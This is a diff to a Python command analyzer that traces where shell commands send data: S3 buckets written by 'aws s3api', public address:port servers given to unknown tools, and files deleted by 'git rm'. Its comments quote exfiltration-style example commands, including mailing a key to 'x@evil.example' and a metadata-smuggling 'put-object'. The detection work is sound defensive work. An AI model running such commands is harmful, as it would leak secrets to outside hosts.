@@ -2149,6 +2149,10 @@ def _generic(argv: list[str], state: _State, name: str) -> None:
         pushes = "push" in operands
         # an OCI reference fetched (`helm pull oci://public.ecr.aws/x`) is an image pulled, as `docker pull`
         _urls([w for w in operands if pushes or w[:6].lower() != "oci://"], state, name)
+        if name == "aws":  # `aws s3api put-object --bucket B --metadata k=$(...)`: what it writes goes to B
+            _urls([f"s3://{bucket}/" for bucket in _s3api_written(operands)], state, name)
+        if entry is None:  # a tool the table does not know: the servers its words name by address
+            _servers_named(operands, state, name)
     if entry is not None and Role.MAILS in entry.roles:  # `mail -a KEY x@evil.example`: the domain receives
         from limen.normalize import net
 
@@ -2579,6 +2583,39 @@ def _add_host(state: _State, host: str, port: int | None, via: str, flags: tuple
     dest = _host(host, port, via, flags)
     if dest is not None:
         state.destinations.append(dest)
+
+
+def _s3api_written(operands: list[str]) -> list[str]:
+    """The buckets an `aws s3api` call writes to (`put-object`, `upload-part`, `copy-object`, `put-bucket-*`):
+    the bucket is where its body, metadata and settings go. Reads name none."""
+    if "s3api" not in operands[:3]:
+        return []
+    verb = next((w for w in operands[operands.index("s3api") + 1 :] if not w.startswith("-")), "")
+    if not verb.startswith(("put-", "upload", "copy-object", "create-multipart")):
+        return []
+    buckets = [operands[i + 1] for i, w in enumerate(operands[:-1]) if w == "--bucket"]
+    buckets += [w.split("=", 1)[1] for w in operands if w.startswith("--bucket=")]
+    return [b for b in buckets if b and "$" not in b and "`" not in b]
+
+
+# A server by its address and port (`52.14.88.201:9092`)
+_ADDRESS_PORT = re.compile(r"^(\d{1,3}(?:\.\d{1,3}){3}):(\d{2,5})$")
+
+
+def _servers_named(operands: list[str], state: _State, via: str) -> None:
+    """The servers an unknown tool is told to talk to by a public address (`kcat -b 52.14.88.201:9092 -P`):
+    where what it sends goes. Private and loopback addresses are the machine's and the network's own."""
+    from limen.model import HostClass
+    from limen.normalize import net
+
+    for word in operands[:64]:
+        for server in word.split(",")[:8]:
+            found = _ADDRESS_PORT.match(server.split("=", 1)[-1])
+            if found is None:
+                continue
+            where = net.host_destination(found.group(1), int(found.group(2)), via_command=via)
+            if where.host_class is HostClass.PUBLIC:
+                state.destinations.append(where)
 
 
 def _urls(words: list[str], state: _State, via: str) -> None:
@@ -4949,8 +4986,9 @@ def _h_git(argv: list[str], state: _State, via: tuple[str, ...], level: int, std
         if len(words) >= 2:  # a remote this line defines: a later `git push NAME` goes to its URL
             state.vars[_GIT_REMOTE_VAR + words[0]] = words[-1]
     for i, word in enumerate(rest[1:], 1):
-        if sub == "add" and word and not word.startswith("-") and not _looks_like_path(word):
-            _add_path(word, state, write=False)  # `git add .env`: every operand is a file git reads in
+        if sub in ("add", "rm") and word and not word.startswith("-") and not _looks_like_path(word):
+            # `git add .env`: every operand is a file git reads in; `git rm CODEOWNERS`: one it deletes
+            _add_path(word, state, write=sub == "rm")
         if sub in _GIT_BLOB_READERS and ":" in word and not word.startswith("-") and "://" not in word:
             blob = word.split(":", 1)[1]  # `git show HEAD:.env`: that file's committed content, printed
             if blob and not blob.startswith(("/", "~")):
